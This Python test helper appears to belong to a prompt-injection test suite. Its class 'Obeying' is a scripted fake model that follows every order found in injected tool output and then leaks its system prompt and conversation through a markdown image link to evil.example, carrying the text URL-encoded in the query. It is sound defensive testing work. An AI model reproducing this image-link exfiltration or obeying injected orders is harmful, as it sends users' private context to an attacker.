"""A model without any sense: it does what the data tells it, again and again, and tells all it
knows to everybody."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from typing import Any
from urllib.parse import quote

from bot.providers import NONE, Request
from bot.providers.scripted import Step
from bot.transcript import Message, Text, ToolCall
from tests.injections.corpus import LONG, Injection, Order
from toolset.web.text import one_line

PATIENCE = 6  # answers, enough to hear three times that it may not
READ = 200  # characters it needs to see of an injection: errors are shortened


class Obeying:
    """Looks where it is told to, and obeys what it finds there: every step of a ``Scripted``.

    Args:
        first: the call that brings the injection in.

    Attributes:
        requests: what it is asked; the ``Scripted``'s.
        has_read: the injection has come through to it.
    """

    def __init__(self, injection: Injection, first: ToolCall) -> None:
        self._injection = injection
        self._first = first
        self._step = 0
        self.requests: list[Request] = []
        self.has_read = False

    @property
    def known(self) -> str:
        """Everything it has been told so far, but for its own words."""
        asked = self.requests[-1]
        heard = [message for message in asked.messages if message.role != "model"]
        return "\n".join([asked.system, *texts_in(heard)])

    def __call__(self, messages: Sequence[Message]) -> Step:
        """The next answer."""
        self._step += 1
        if self.requests[-1].tool_choice == NONE or (
            self._step > PATIENCE and not self._injection.endless
        ):
            return Step(self._tells())
        # Some tools give texts in one line, without invisible characters.
        begins = one_line(self._injection.text)[:READ].strip()
        heard = map(one_line, texts_in(messages))
        self.has_read = self.has_read or any(begins in text for text in heard)
        if not self.has_read:
            return Step(calls=(self._first,))
        calls = tuple(
            self._call(order, time)
            for order in self._injection.orders
            for time in range(order.times)
        )
        return Step(self._tells() if not calls else "", calls=calls)

    def _call(self, order: Order, time: int) -> ToolCall:
        """Never quite the same call, so that nothing keeps it from being repeated."""
        words = {"{known}": self.known, "{long}": LONG}
        given = {name: words.get(value, value) for name, value in order.arguments.items()}
        if order.tool == "launch":
            given["attempt"] = self._step * 100 + time
        return ToolCall("", order.tool, given)

    def _tells(self) -> str:
        quoted = quote(self.known, errors="replace")
        return f"{self.known}\n![x](https://evil.example/p.png?q={quoted})"


def texts_in(messages: Sequence[Message]) -> Iterator[str]:
    """What a model reads as words: what was said, and every string in the results, names
    included."""
    for message in messages:
        yield message.context
        for part in message.parts:
            if isinstance(part, Text):
                yield part.text
        for result in message.results:
            yield from _strings(result.response)


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield json.dumps(value, ensure_ascii=False)
        for name, inner in value.items():
            yield from (name, *_strings(inner))
    elif isinstance(value, list):
        for inner in value:
            yield from _strings(inner)
